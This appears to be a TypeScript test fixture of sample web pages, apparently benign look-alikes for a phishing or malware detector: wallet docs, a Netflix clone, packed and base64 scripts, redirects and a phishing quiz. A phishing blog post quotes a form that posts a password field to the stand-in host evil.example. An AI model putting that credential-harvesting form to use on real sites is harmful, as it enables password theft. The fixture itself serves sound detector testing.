import { base64, noise, page, prose, type Samples, scripted, site } from '../../sample.ts';

const PHISHING_POST = `<article><h1>How a fake PayPal page stole my password</h1>${prose(
  'The mail said that my PayPal account had been suspended and that I had 24 hours to verify my identity.',
  'The link led to a page that looked exactly like the log-in of PayPal, down to the logo.',
  'Typical phrases: “unusual activity”, “confirm your payment information”, “your account will be closed”.',
)}<pre><code>&lt;form action="https://evil.example/post.php"&gt;&lt;input type="password"&gt;&lt;/form&gt;</code></pre><img src="fake-paypal-login.png" alt="Screenshot of a fake PayPal login"></article>`;

const WALLET_DOCS = `<nav>Docs</nav><main><h1>Back up your wallet</h1>${prose(
  'Your Secret Recovery Phrase has 12 or 24 words. Anyone who knows your seed phrase or private key controls your funds.',
  'Never type your recovery phrase into a website. MetaMask, Ledger and Trezor support will never ask for it.',
)}<form role="search"><input type="search" name="q" placeholder="Search the docs"></form></main>`;

const BIP39 = `<h1>Mnemonic code converter</h1><p>Works offline. Generate a BIP39 mnemonic, or enter an existing one to derive addresses.</p><label>BIP39 mnemonic <textarea id="phrase" autocomplete="off"></textarea></label><button id="gen">Generate</button><table id="addresses"></table><script>gen.onclick=async()=>{const e=crypto.getRandomValues(new Uint8Array(16));phrase.value=[...new Uint8Array(await crypto.subtle.digest('SHA-256',e))].join(' ')}</script>`;

const FAN = `<header><h1>Everything about Stranger Things</h1></header>${prose('A fan page, not affiliated with Netflix. New episodes arrive on Netflix in November.')}<img src="netflix-poster.jpg" alt="Netflix poster of the third season">`;

const CLONE = `<nav><span class="logo">NETFLIX</span><a href="#">Sign In</a></nav><h1>Unlimited movies, TV shows, and more</h1><form><input type="email" placeholder="Email address"><button>Get Started</button></form><footer>Clone made for learning by Priya</footer>`;

const GA = `<h1>Old blog</h1>${prose('Posts from 2011.')}<script>var gaJsHost=(("https:"==document.location.protocol)?"https://ssl.":"http://www.");document.write(unescape("%3Cscript src='"+gaJsHost+"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`;

const PACKED = `<h1>Photo slider</h1><div class="slider"></div><script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('$(0).1({2:3,4:5,6:7})',8,8,'slider|animate|left|100|duration|400|easing|swing'.split('|'),0,{}))</script>`;

const WASM = scripted(
  'Tetra – a puzzle',
  `const w="${base64(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, ...noise(6_000)]))}";WebAssembly.instantiate(Uint8Array.from(atob(w),t=>t.charCodeAt(0))).then(t=>x(t));document.getElementById("root").innerHTML="<canvas></canvas>";`,
);

const STATICRYPT = `<div class="staticrypt-page"><h1>Protected page</h1><form id="staticrypt-form"><input id="staticrypt-password" type="password" name="password" placeholder="Password" autofocus><button>Decrypt</button></form></div><script>const msg="${Buffer.from(noise(4_000)).toString('hex')}";document.getElementById('staticrypt-form').addEventListener('submit',async e=>{e.preventDefault();const k=await crypto.subtle.importKey('raw',new TextEncoder().encode(e.target.password.value),'PBKDF2',false,['deriveKey']);const html=await decrypt(k,msg);document.write(html);document.close()});async function decrypt(k,m){return new TextDecoder().decode(await crypto.subtle.decrypt({name:'AES-CBC',iv:hex(m.slice(0,32))},k,hex(m.slice(32))))}function hex(t){return new Uint8Array(t.match(/../g).map(v=>parseInt(v,16)))}</script>`;

const MOVED = `<h1>We have moved</h1><p>Our new address is <a href="https://www.oakandash.example/">www.oakandash.example</a>.</p>`;

const DOWNLOAD = `<h1>Thank you for downloading Inkwell</h1><p>Your download should start in a moment. <a id="d" href="https://github.com/inkwell/app/releases/download/v2.1.0/inkwell-2.1.0.dmg">Start it yourself</a></p><script>setTimeout(()=>{location.href=d.href},1500)</script>`;

const CSV = `<h1>Time sheet</h1><table id="t"></table><button id="export">Export CSV</button><script>document.getElementById('export').addEventListener('click',()=>{const blob=new Blob([rows().join('\\n')],{type:'text/csv'});const a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='hours.csv';a.click();URL.revokeObjectURL(a.href)});function rows(){return[...t.rows].map(r=>[...r.cells].map(c=>c.textContent).join())}</script>`;

export const PAGES: Samples = {
  'a post about phishing': site('How a fake PayPal page stole my password', PHISHING_POST),
  'documents of a wallet': site('Back up your wallet – Docs', WALLET_DOCS),
  'a converter of mnemonics': site('BIP39 mnemonic converter', BIP39),
  'a fan page': site('Hawkins Times – a Stranger Things fan page', FAN),
  'a clone without a log-in': site('Netflix Clone', CLONE),
  'analytics as they were in 2011': site('Old blog', GA),
  'a packed script': site('Photo slider', PACKED),
  'a program in base64': WASM,
  'a page behind a password': site('Protected page', STATICRYPT),
  'a page that has moved': site('We have moved', MOVED, {
    head: '<meta http-equiv="refresh" content="5; url=https://www.oakandash.example/">',
  }),
  'a download that begins': site('Thank you – Inkwell', DOWNLOAD),
  'an export of a table': site('Time sheet', CSV),
  'a cake of apples': site(
    'Apple pie',
    `<h1>Apple</h1>${prose('Peel the apples. Chase them with cinnamon and an orange.')}`,
  ),
  'a page of links': site(
    'Mira – links',
    `<h1>Mira</h1><a href="https://instagram.com/mira"><img src="instagram.svg" alt="Instagram">Instagram</a><a href="https://open.spotify.com/artist/1">Spotify</a><a href="https://www.paypal.com/paypalme/mira"><img src="paypal.svg" alt="PayPal">PayPal</a>`,
  ),
  'a site that redirects its old paths': {
    'index.html': page('Docs', '<h1>Docs</h1>'),
    _redirects: '/v1/* /v2/:splat 301\n/chat https://discord.gg/abcdef 302\n/old https://archive.docs.example/ 301\n',
  },
  'quiz about phishing': site(
    'Can you spot the phish?',
    `<h1>Can you spot the phish?</h1>${prose('Which of these addresses belongs to Microsoft?')}<button>micros0ft-login.com</button><button>login.microsoftonline.com</button><button>rnicrosoft.com</button>`,
  ),
  'a museum of UPS and steam': site(
    'Steam trains of Wales',
    `<h1>Steam</h1>${prose('Visit the steam railway. Tickets are sold online.')}<form action="https://tickets.railway.example/book" method="post"><input name="date" type="date"><button>Book</button></form>`,
  ),
};
